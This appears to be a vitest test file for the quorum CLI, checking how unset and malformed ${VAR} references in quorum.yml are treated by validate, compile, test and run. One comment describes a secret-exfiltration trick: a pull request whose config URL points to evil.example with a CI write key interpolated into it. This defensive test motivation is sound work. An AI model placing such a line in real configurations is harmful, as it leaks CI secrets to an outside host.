// `validate --offline` and `compile` never connect, so a `${VAR}` of quorum.yml that CI does not set
// reads as a placeholder there, as under `quorum test` (docs/operating.md, docs/testing.md's CI
// advice); the online `validate`, which connects, still says missing_env. An audit on 5 December
// found `validate --offline` failing with missing_env on a project with ${DATABASE_URL}.
import { spawn } from 'node:child_process';
import { cp, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { loadProject } from '../../src/definitions/load-project.js';
import { dialectNamed } from '../../dialects/registry.js';
import { childOutput } from '../support/child-output.js';
import { copyDemoProject } from '../support/demo-project.js';
import { cliArgs } from '../support/cli-bundle.js';
import { removeTempDirs, tempDir } from '../sync/support/harness.js';
import { writeProject } from '../sync/support/project.js';

afterAll(() => removeTempDirs());

/** A project whose `quorum test` cases run offline; its only ${VAR} is CRM_WRITE_KEY. */
const CUSTOM_LAYOUT = path.resolve(import.meta.dirname, '../../fixtures/test-projects/custom-layout');

/** A copy of the custom-layout fixture, its quorum.yml edited and destinations appended. */
async function customLayout(name: string, edit: (yml: string) => string, destinations: readonly string[]): Promise<string> {
  const dir = await tempDir(name);
  await cp(CUSTOM_LAYOUT, dir, { recursive: true });
  const yml = path.join(dir, 'quorum.yml');
  await writeFile(yml, `${edit(await readFile(yml, 'utf8'))}${destinations.map((line) => `${line}\n`).join('')}`);
  return dir;
}

/** `file:line code` of every diagnostic in a command's stderr. */
const diagnosticsOf = (stderr: string) => [...stderr.matchAll(/^(quorum\.yml):(\d+):\d+ error\[(\w+)\]/gm)].map((m) => `${m[1]}:${m[2]} ${m[3]}`);

async function quorum(dir: string, ...args: string[]) {
  const env = { ...process.env };
  for (const name of ['QUORUM_UNSET_DATABASE_URL', 'QUORUM_TEST_WRITE_KEY']) delete env[name];
  return childOutput(spawn(process.execPath, cliArgs(...args, '--project', dir), { env }));
}

describe('commands that never connect read unset ${VAR}s as placeholders', () => {
  it('validate --offline and compile pass; validate names the variable', async () => {
    const dir = await tempDir('offline-placeholders');
    await writeProject(dir, { endpoint: 'http://127.0.0.1:9', noWarehouse: true });
    const yml = path.join(dir, 'quorum.yml');
    const text = await readFile(yml, 'utf8');
    await writeFile(yml, text.replace(/warehouse:\n {2}type: duckdb\n {2}path: warehouse.duckdb/, 'warehouse:\n  type: postgres\n  url: ${QUORUM_UNSET_DATABASE_URL}'));
    const offline = await quorum(dir, 'validate', '--offline');
    expect(offline.code, offline.stderr).toBe(0);
    expect(offline.stdout).toContain('definitions are valid (offline');
    const compiled = await quorum(dir, 'compile', 'logins_3d');
    expect(compiled.code, compiled.stderr).toBe(0);
    expect(compiled.stdout).toContain('SELECT');
    const online = await quorum(dir, 'validate');
    expect(online.code).toBe(1);
    expect(online.stderr).toMatch(/error\[missing_env\]: .*QUORUM_(UNSET_DATABASE_URL|TEST_WRITE_KEY)/);
  }, 60_000);
});

// Found by an audit on 5 December: an unset ${VAR} in source.schema or state.schema failed `quorum
// test` and `validate --offline` ("${SCHEMA} is not a plain table, schema or column name"), since
// the placeholder was "unset-SCHEMA"; a webhook `url: ${HOOK_URL}` failed the same way.
describe('an unset ${VAR} where quorum.yml wants a name or a URL', () => {
  it('passes quorum test and validate --offline', async () => {
    const dir = await customLayout(
      'placeholder-names',
      (yml) =>
        yml
          .replace('schema: events_prod', 'schema: ${QUORUM_UNSET_SOURCE_SCHEMA}')
          .replace('schema: quorum_state', 'schema: ${QUORUM_UNSET_STATE_SCHEMA}')
          .replace('tracks: all_tracks', 'tracks: ${QUORUM_UNSET_TRACKS}')
          // a cron, a time zone, a size and a number: none is checked where a placeholder stands
          .replace('path: warehouse.duckdb', 'path: warehouse.duckdb\n  memory_limit: ${QUORUM_UNSET_MEMORY}\n  threads: ${QUORUM_UNSET_THREADS}')
          .replace('state:\n', 'schedule:\n  default: ${QUORUM_UNSET_CRON}\n  timezone: ${QUORUM_UNSET_ZONE}\nstate:\n'),
      ['  hook: { type: webhook, url: "${QUORUM_UNSET_HOOK_URL}", headers: { Authorization: "Bearer ${QUORUM_UNSET_TOKEN}" } }'],
    );
    const tested = await quorum(dir, 'test');
    expect(tested.code, tested.stderr).toBe(0);
    expect(tested.stdout).toMatch(/\b1 passed\b/);
    const offline = await quorum(dir, 'validate', '--offline');
    expect(offline.code, offline.stderr).toBe(0);
    expect(offline.stdout).toContain('definitions are valid (offline');
    const online = await quorum(dir, 'validate');
    expect(online.code).toBe(1);
    expect(online.stderr).toContain('error[missing_env]');
  }, 60_000);
});

// Found by an audit on 5 December: `out/${${X}}.ndjson`, `${X:-def}` and `${}` passed `validate
// --offline` and `quorum test` (the braces stayed in a file name or a URL), and online gave
// messages about variables nobody named.
describe('a malformed ${...} is an invalid_value at its line', () => {
  it('under validate --offline and quorum test, quoting no default written inline', async () => {
    const dir = await customLayout(
      'malformed-references',
      (yml) => yml.replace('write_key: ${CRM_WRITE_KEY}', 'write_key: "${CRM_WRITE_KEY:-sk_inline_default_42}"'),
      ['  calls: { type: file, path: "out/${${QUORUM_X}}.ndjson" }', '  hook:', '    type: webhook', '    url: http://127.0.0.1:9/${}', '    headers: { X-Env: "${ QUORUM_X }" }', '  open: { type: file, path: "out/${QUORUM_X.ndjson" }'],
    );
    const lines = (await readFile(path.join(dir, 'quorum.yml'), 'utf8')).split('\n');
    const lineOf = (needle: string) => `quorum.yml:${lines.findIndex((l) => l.includes(needle)) + 1} invalid_value`;
    const expected = [lineOf('sk_inline_default_42'), lineOf('${${QUORUM_X}}'), lineOf('${}'), lineOf('${ QUORUM_X }'), lineOf('${QUORUM_X.ndjson')];
    for (const args of [['validate', '--offline'], ['test']]) {
      const out = await quorum(dir, ...args);
      expect(out.code, out.stderr).toBe(1);
      expect(diagnosticsOf(out.stderr), out.stderr).toEqual(expected);
      expect(out.stderr).toContain('"write_key" holds "${CRM_WRITE_KEY:…", which is not a reference to an environment variable');
      expect(out.stderr).toContain('hint: write ${NAME}');
      expect(out.stderr).not.toContain('sk_inline_default_42');
    }
  }, 60_000);

  it('$${ writes a literal ${', async () => {
    const dir = await customLayout('escaped-reference', (yml) => yml, ['  calls: { type: file, path: "out/$${QUORUM_X}-${CRM_WRITE_KEY}.ndjson" }']);
    const { project, diagnostics } = await loadProject(dir, { env: { CRM_WRITE_KEY: 'k' }, dialects: dialectNamed });
    expect(diagnostics).toEqual([]);
    expect(project?.config.destinations.calls).toEqual({ type: 'file', path: path.join(dir, 'out/${QUORUM_X}-k.ndjson') });
  });
});

// quorum.yml comes in pull requests and decides where a ${VAR} is sent: a pull request that wrote
// `url: postgres://evil.example/x?k=${SEGMENT_WRITE_KEY}` got the key from CI's `validate`, which
// read every destination's secret though it never sends. Commands that connect and never send read
// the destinations' unset ${VAR}s as placeholders, so CI gives them the warehouse's secrets only.
describe('commands that connect and never send need no destination secret', () => {
  it('validate, preview, members, history and state check pass without it; run names it', async () => {
    const dir = await tempDir('destination-placeholders');
    await copyDemoProject(dir);
    const yml = path.join(dir, 'quorum.yml');
    const text = await readFile(yml, 'utf8');
    expect(text).toMatch(/^destinations:\n/m);
    await writeFile(yml, text.replace(/^destinations:\n/m, 'destinations:\n  crm:\n    type: segment\n    write_key: ${QUORUM_TEST_WRITE_KEY}\n    endpoint: http://127.0.0.1:9\n'));
    const validated = await quorum(dir, 'validate');
    expect(validated.code, validated.stderr).toBe(0);
    expect(validated.stdout).toContain('definitions are valid');
    for (const args of [['preview', 'at_risk_accounts', '--as-of', '2024-06-01'], ['members', 'at_risk_accounts', '--as-of', '2024-06-01'], ['history'], ['state', 'check']]) {
      const out = await quorum(dir, ...args);
      expect(out.code, out.stderr).toBe(0);
      expect(out.stdout.length).toBeGreaterThan(0);
    }
    const run = await quorum(dir, 'run', '--as-of', '2024-06-01');
    expect(run.code).toBe(1);
    expect(diagnosticsOf(run.stderr)).toEqual([`quorum.yml:${text.split('\n').findIndex((l) => l === 'destinations:') + 4} missing_env`]);
    expect(run.stderr).toContain('QUORUM_TEST_WRITE_KEY');
  }, 120_000);
});
